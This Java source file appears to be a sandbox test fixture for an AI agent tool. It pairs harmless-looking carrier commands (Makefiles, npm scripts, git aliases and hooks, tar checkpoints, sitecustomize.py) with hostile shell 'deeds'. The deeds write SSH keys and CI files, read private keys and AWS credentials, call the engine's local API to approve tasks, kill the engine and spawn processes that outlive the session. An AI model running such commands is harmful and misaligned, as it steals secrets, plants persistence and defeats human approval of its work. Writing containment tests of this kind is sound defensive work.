package dev.loom.tools.sandbox;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/// Attacks in two calls: the first writes files into the workspace, the second is a command that
/// looks harmless and runs what they say. Every carrier is combined with every deed.
final class TwoStepAttacks {
  private static final String DEED = "deed.sh";
  private static final String LASTING = "SECONDS";

  /// What the deeds aim at. None of it is real.
  ///
  /// @param engine id of a process that stands for the engine
  /// @param port of a server on all addresses of the host, TCP and UDP
  /// @param seconds how long processes sleep that shall outlive the call; no other process has it
  record Targets(
      Path workspace,
      Path home,
      Path loomHome,
      Path outside,
      long engine,
      int port,
      String seconds) {}

  /// @param name names carrier and deed
  /// @param files by name what the first call writes
  /// @param command what the second call runs
  record Attack(String name, Map<String, String> files, String command) {}

  /// @param program without which the carrier does not work
  private record Carrier(String program, String file, String content, String command) {}

  private static final List<Carrier> CARRIERS =
      List.of(
          new Carrier("sh", "build.sh", ". ./deed.sh\n", "sh build.sh"),
          new Carrier(
              "sh",
              "gradlew",
              "#!/bin/sh\nexec sh deed.sh\n",
              "chmod +x gradlew && ./gradlew build"),
          new Carrier("bash", "env.sh", ". ./deed.sh\n", "BASH_ENV=env.sh bash -c 'echo ready'"),
          new Carrier("bash", "setup.bash", "trap '. ./deed.sh' EXIT\n", "source setup.bash && ls"),
          new Carrier("make", "Makefile", "all:\n\t@sh deed.sh\n", "make"),
          new Carrier(
              "make",
              "GNUmakefile",
              "X := $(shell sh deed.sh)\nall:\n\t@echo $(X)\n",
              "make -s all"),
          new Carrier(
              "cmake",
              "version.cmake",
              "execute_process(COMMAND sh deed.sh)\n",
              "cmake -P version.cmake"),
          new Carrier(
              "npm",
              "package.json",
              "{\"scripts\":{\"test\":\"sh deed.sh\"}}",
              "npm test --silent"),
          new Carrier(
              "node",
              "check.js",
              "require('child_process').spawnSync('sh', ['deed.sh'], {stdio: 'inherit'});\n",
              "node check.js"),
          new Carrier(
              "python3",
              "conftest.py",
              "import subprocess\nsubprocess.run(['sh', 'deed.sh'])\n",
              "python3 conftest.py"),
          new Carrier(
              "python3",
              "sitecustomize.py",
              "import os\nos.system('sh deed.sh')\n",
              "PYTHONPATH=. python3 -c 'print(1)'"),
          new Carrier(
              "python3",
              "test_a.py",
              "import os, unittest\nclass A(unittest.TestCase):\n  def test(self): os.system('sh deed.sh')\n",
              "python3 -m unittest -q"),
          new Carrier(
              "python3",
              "setup.py",
              "import os\nos.execlp('sh', 'sh', 'deed.sh')\n",
              "python3 setup.py --version"),
          new Carrier("perl", "Makefile.PL", "system 'sh', 'deed.sh';\n", "perl Makefile.PL"),
          new Carrier("awk", "sum.awk", "BEGIN { system(\"sh deed.sh\") }\n", "awk -f sum.awk"),
          new Carrier("sed", "fix.sed", "1e sh deed.sh\n", "sed -f fix.sed fix.sed"),
          new Carrier("ed", "edits", "!sh deed.sh\nq\n", "ed -s < edits"),
          new Carrier(
              "vim", "fix.vim", "silent !sh deed.sh >&2\nqa!\n", "vim -es -u NONE -S fix.vim"),
          new Carrier(
              "sqlite3",
              "schema.sql",
              ".shell sh deed.sh\n",
              "sqlite3 :memory: '.read schema.sql'"),
          new Carrier("xargs", "tests.txt", "deed.sh\n", "xargs -n1 sh < tests.txt"),
          new Carrier("find", "empty.txt", "", "find . -name deed.sh -exec sh {} \\;"),
          new Carrier(
              "tar",
              "list",
              "deed.sh\n",
              "tar cf /tmp/a.tar --checkpoint=1 --checkpoint-action=exec='sh deed.sh' deed.sh; sleep 0.1"),
          new Carrier(
              "git",
              "monitor",
              "#!/bin/sh\nexec sh deed.sh\n",
              "chmod +x monitor && git -c core.fsmonitor=./monitor status"),
          new Carrier("git", "run", "", "git -c alias.st='!sh deed.sh' st"),
          new Carrier(
              "git",
              "hook",
              "",
              "git init -q sub && cp deed.sh sub/.git/hooks/post-checkout; chmod +x sub/.git/hooks/post-checkout; cd sub && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m a && git checkout -q -b x"),
          new Carrier(
              "git",
              "rebase",
              "",
              "git -c user.name=a -c user.email=a@b rebase -q --exec 'sh deed.sh' --root"));

  private TwoStepAttacks() {}

  private static List<Carrier> carriers() {
    return CARRIERS.stream()
        .filter(
            carrier ->
                List.of("/usr/bin/", "/bin/").stream()
                    .anyMatch(bin -> Files.isExecutable(Path.of(bin + carrier.program()))))
        .toList();
  }

  /// Returns all combinations.
  static List<Attack> all(Targets targets) {
    var attacks = new ArrayList<Attack>();
    for (var deed : deeds(targets)) {
      for (var carrier : carriers()) {
        attacks.add(
            new Attack(
                carrier.file() + " | " + deed,
                Map.of(carrier.file(), carrier.content(), DEED, deed + "\n"),
                carrier.command()));
      }
    }
    return attacks;
  }

  private static List<String> deeds(Targets targets) {
    var deeds = new ArrayList<String>();
    for (var file : written(targets)) {
      deeds.add("echo pwned >> " + file);
      deeds.add("rm -f " + file + "; echo pwned > new && mv -f new " + file);
      deeds.add("ln -s " + file + " link; echo pwned > link; cp deed.sh link");
      deeds.add("ln " + file + " hard && echo pwned > hard; chmod 777 " + file);
      deeds.add(
          "mkdir -p m; mount --bind $(dirname "
              + file
              + ") m; umount -l "
              + file
              + "; echo pwned > m/$(basename "
              + file
              + "); echo pwned > "
              + file);
    }
    for (var file : read(targets)) {
      deeds.add("cat " + file);
      deeds.add("ln -s " + file + " link; cat link; ln " + file + " hard; cat hard");
      deeds.add(
          "cat /proc/"
              + targets.engine()
              + "/root"
              + file
              + " /proc/1/root"
              + file
              + " /proc/self/root"
              + file);
    }
    deeds.addAll(onEngine(targets));
    lasting().forEach(deed -> deeds.add(deed.replace(LASTING, targets.seconds())));
    return deeds;
  }

  private static List<String> written(Targets targets) {
    return List.of(
        targets.outside() + "/victim",
        targets.outside() + "/created",
        targets.home() + "/.ssh/authorized_keys",
        targets.home() + "/.bashrc",
        targets.loomHome() + "/loom.db",
        targets.loomHome() + "/token",
        targets.workspace() + "/.git/hooks/pre-commit",
        targets.workspace() + "/.git/config",
        targets.workspace() + "/.env",
        targets.workspace() + "/.env.local",
        targets.workspace() + "/.github/workflows/ci.yml");
  }

  private static List<String> read(Targets targets) {
    return List.of(
        targets.home() + "/.ssh/id_rsa",
        targets.home() + "/.aws/credentials",
        targets.loomHome() + "/loom.db",
        targets.loomHome() + "/token");
  }

  private static List<String> onEngine(Targets targets) {
    var engine = targets.engine();
    var port = targets.port();
    var deeds = new ArrayList<String>();
    for (var host :
        List.of("127.0.0.1", "[::1]", "127.0.0.2", "0.0.0.0", "$(hostname -I | cut -d' ' -f1)")) {
      deeds.add(
          "curl -s -m 2 -X POST -d '{\"approved\":true}' http://"
              + host
              + ":"
              + port
              + "/tasks/t/approve");
    }
    deeds.add("curl -s -m 2 -X POST http://localhost:" + port + "/tasks/t/cancel");
    deeds.add("bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + port + "; echo x >&3'");
    deeds.add("bash -c 'echo canary > /dev/udp/127.0.0.1/" + port + "'");
    deeds.add("bash -c 'for i in 1 2 3; do cat .env > /dev/udp/127.0.0.1/" + port + "; done'");
    deeds.add(
        "nsenter -t "
            + engine
            + " -n curl -s -m 2 http://127.0.0.1:"
            + port
            + "/; unshare -rn true; ip netns list");
    deeds.add("kill -9 " + engine);
    deeds.add("pkill -9 -f 'sleep 86399'; killall -9 sleep");
    deeds.add("for p in /proc/[0-9]*; do grep -q 86399 $p/cmdline && kill -9 ${p#/proc/}; done");
    deeds.add("perl -e 'kill 9, " + engine + "'");
    deeds.add("cat /proc/" + engine + "/environ");
    deeds.add("cat /proc/[0-9]*/environ");
    deeds.add(
        "perl -e 'open F, \"/proc/"
            + engine
            + "/mem\" and print \"opened\"; open G, \"/proc/"
            + engine
            + "/environ\"; print <G>'");
    deeds.add("ps auxwwe; ps -p " + engine + " -o args,environ");
    deeds.add(
        "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('"
            + targets.outside()
            + "/socket'); s.send(b'x')\"");
    return deeds;
  }

  private static List<String> lasting() {
    return List.of(
        "sleep SECONDS &",
        "setsid sleep SECONDS &",
        "nohup setsid sh -c 'sleep SECONDS' >/dev/null 2>&1 &",
        "env -i setsid /bin/sleep SECONDS >/dev/null 2>&1 </dev/null &",
        "(setsid env -i sh -c '(trap \"\" HUP TERM INT; sleep SECONDS & sleep SECONDS)' &) >/dev/null 2>&1",
        "(env -i setsid sh -c 'ulimit -m 9; exec sleep SECONDS' &) >/dev/null 2>&1",
        "(env -i setsid sh -c 'ulimit -w 9; ulimit -x 9; ulimit -m 9; sleep SECONDS & :' &) >/dev/null 2>&1",
        "perl -e 'use POSIX; fork and exit; POSIX::setsid(); fork and exit; %ENV = (); exec \"sleep\", \"SECONDS\"'",
        "python3 -c \"import ctypes, os; os.fork() or (os.setsid(), ctypes.CDLL(None).prctl(4, 0), os.execvpe('sleep', ['sleep', 'SECONDS'], {}))\" &",
        "for i in 1 2 3 4 5 6 7 8 9 10; do (setsid sleep SECONDS & setsid sleep SECONDS &) & done",
        "f() { [ $1 -gt 0 ] && { f $(($1 - 1)) & f $(($1 - 1)) & }; sleep SECONDS; }; f 5");
  }
}
